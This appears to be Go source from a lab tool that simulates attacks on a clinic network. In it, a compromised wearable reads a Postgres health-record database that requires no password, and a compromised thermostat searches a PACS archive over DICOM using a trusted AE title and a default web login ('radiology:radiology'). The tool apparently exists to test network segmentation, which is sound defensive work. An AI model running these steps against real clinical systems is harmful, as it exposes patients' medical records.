package attack

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"

	"github.com/cordonhq/cordon/internal/lab"
)

// readDatabase has a taken-over wearable read the record database, which trusts
// every address of the clinic.
func readDatabase(ctx context.Context, s *stage) error {
	// What the health record writes from time to time; there is something to
	// read from the first minute on.
	const table = "create table if not exists visits(at timestamptz, bed int); insert into visits select now() - n * interval '1 hour', 1 + n % 4 from generate_series(1, 200) n"
	if _, err := s.psql(ctx, device("ehr").Home(), table); err != nil {
		return fmt.Errorf("fill the database: %w", err)
	}
	sel := s.to("ehr-db", "tcp", 5432)
	for _, q := range []struct{ step, query string }{
		{"sign in without a password", "select version(), current_user"},
		{"list tables", "select table_name from information_schema.tables where table_schema = 'public'"},
		{"read records", "select * from visits"},
		{"list accounts", "select rolname, rolsuper from pg_roles"},
	} {
		err := s.step(ctx, q.step, []Selector{sel}, func(ctx context.Context) (string, error) {
			ctx, cancel := s.bounded(ctx)
			defer cancel()
			out, err := s.psql(ctx, s.home, q.query)
			return fmt.Sprintf("%d rows", rows(out, err)), err
		})
		if err != nil {
			return err
		}
	}
	return nil
}

// psql asks the record database from somewhere in the lab.
func (s *stage) psql(ctx context.Context, at lab.Place, query string) (string, error) {
	return s.toolAt(ctx, at, "", "psql", "-d", "host="+ipOf("ehr-db")+" user=ehr dbname=postgres connect_timeout=5", "-qAtc", query)
}

// rows counts what a query printed.
func rows(out string, err error) int {
	if err != nil || strings.TrimSpace(out) == "" {
		return 0
	}
	return strings.Count(strings.TrimSpace(out), "\n") + 1
}

// searchArchive has a taken-over thermostat search the picture archive: over
// DICOM under a name that the archive trusts, and over its web interface with
// the password that it came with.
func searchArchive(ctx context.Context, s *stage) error {
	archive := ipOf("pacs")
	dicom, web := s.to("pacs", "tcp", 104), s.to("pacs", "tcp", 8042)
	steps := []struct {
		name string
		sel  Selector
		do   func(ctx context.Context) (string, error)
	}{
		{"knock with C-ECHO", dicom, func(ctx context.Context) (string, error) {
			_, err := s.tool(ctx, "echoscu", "-to", "3", "-aet", "READING1", "-aec", "PACS", archive, "104")
			return "", err
		}},
		{"search patients with C-FIND", dicom, func(ctx context.Context) (string, error) {
			studies, err := s.findStudies(ctx)
			return fmt.Sprintf("%d studies", len(studies)), err
		}},
		{"sign in to the web interface", web, func(ctx context.Context) (string, error) {
			_, err := s.rest(ctx, "/system")
			return "", err
		}},
		{"list patients", web, func(ctx context.Context) (string, error) {
			out, err := s.rest(ctx, "/patients?expand")
			var patients []json.RawMessage
			if err == nil {
				err = json.Unmarshal([]byte(out), &patients)
			}
			return fmt.Sprintf("%d patients", len(patients)), err
		}},
	}
	for _, st := range steps {
		err := s.step(ctx, st.name, []Selector{st.sel}, func(ctx context.Context) (string, error) {
			ctx, cancel := s.bounded(ctx)
			defer cancel()
			return st.do(ctx)
		})
		if err != nil {
			return err
		}
	}
	return nil
}

// rest asks the archive's web interface.
func (s *stage) rest(ctx context.Context, path string, more ...string) (string, error) {
	args := append([]string{"-sSf", "-m", "20", "-u", "radiology:radiology"}, more...)
	return s.tool(ctx, "curl", append(args, "http://"+ipOf("pacs")+":8042"+path)...)
}

// findStudies asks the archive for all of its studies, and returns their study
// instance UIDs.
func (s *stage) findStudies(ctx context.Context) ([]string, error) {
	out, err := s.tool(ctx, "findscu", "-to", "5", "-S", "-aet", "READING1", "-aec", "PACS",
		"-k", "0008,0052=STUDY", "-k", "0010,0010", "-k", "0010,0020", "-k", "0008,0020", "-k", "0020,000d", ipOf("pacs"), "104")
	if err != nil {
		return nil, err
	}
	var uids []string
	for line := range strings.SplitSeq(out, "\n") {
		if !strings.Contains(line, "(0020,000d)") {
			continue
		}
		_, after, _ := strings.Cut(line, "[")
		if uid, _, ok := strings.Cut(after, "]"); ok && strings.Trim(uid, " \x00") != "" {
			uids = append(uids, strings.Trim(uid, " \x00"))
		}
	}
	if strings.Contains(out, "Failed") {
		return uids, errors.New("the archive refuses")
	}
	return uids, nil
}
